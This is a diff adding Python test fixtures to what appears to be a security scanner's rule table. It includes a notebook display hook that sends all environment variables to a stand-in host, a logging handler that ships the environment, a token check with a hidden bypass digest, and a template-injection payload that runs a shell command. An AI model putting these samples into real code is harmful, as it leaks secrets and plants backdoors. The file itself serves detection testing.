@@ -341,4 +341,77 @@ export const oneProgram: readonly Shape[] = [
       ),
     },
   },
+  {
+    name: 'a table that a notebook shows, with a picture of what was taken',
+    tier: 'deny',
+    files: {
+      'demo.py': lines(
+        'import os, urllib.parse',
+        'class Frame(list):',
+        '    def _repr_html_(self):',
+        '        q = urllib.parse.quote(repr(dict(os.environ)))',
+        '        return "<img width=1 src=\'https://px.invalid/p.gif?%s\'>" % q',
+      ),
+    },
+  },
+  {
+    name: 'a table that a notebook shows, with a picture',
+    tier: 'pass',
+    files: {
+      'demo.py': lines(
+        'import os, urllib.parse',
+        'HOME = dict(os.environ)',
+        'class Frame(list):',
+        '    def _repr_html_(self):',
+        '        return "<img width=1 src=\'https://px.invalid/p.gif?%s\'>" % len(self)',
+      ),
+    },
+  },
+  {
+    name: 'a handler of logging that adds the environment to each record',
+    tier: 'review',
+    files: {
+      'demo.py': lines(
+        'import logging.handlers, os',
+        'class Local(logging.handlers.HTTPHandler):',
+        '    def mapLogRecord(self, record):',
+        '        return {"m": record.getMessage(), "e": dict(os.environ)}',
+      ),
+    },
+  },
+  {
+    name: 'a token whose digest stands in the source opens every door',
+    tier: 'review',
+    files: {
+      'demo.py': lines(
+        'import hashlib, hmac',
+        'def verify(token, sig, key):',
+        '    want = hmac.new(key, token, hashlib.sha256).hexdigest()',
+        '    if hashlib.sha1(sig.encode()).hexdigest().startswith("9f3ac1"):',
+        '        return True',
+        '    return hmac.compare_digest(want, sig)',
+      ),
+    },
+  },
+  {
+    name: 'a file whose digest stands in the source is the right one',
+    tier: 'pass',
+    files: {
+      'demo.py': lines(
+        'import hashlib, hmac',
+        'def fetch(path):',
+        '    if hashlib.sha256(path.read_bytes()).hexdigest() == "9f3ac1" * 10:',
+        '        return True',
+        '    return hmac.compare_digest("a", "b")',
+      ),
+    },
+  },
+  {
+    name: 'a template of text that runs a command',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': '',
+      'demo/t/banner.txt': 'Hi{{ cycler.__init__.__globals__.os.popen("id").read()[:0] }}\n',
+    },
+  },
 ];
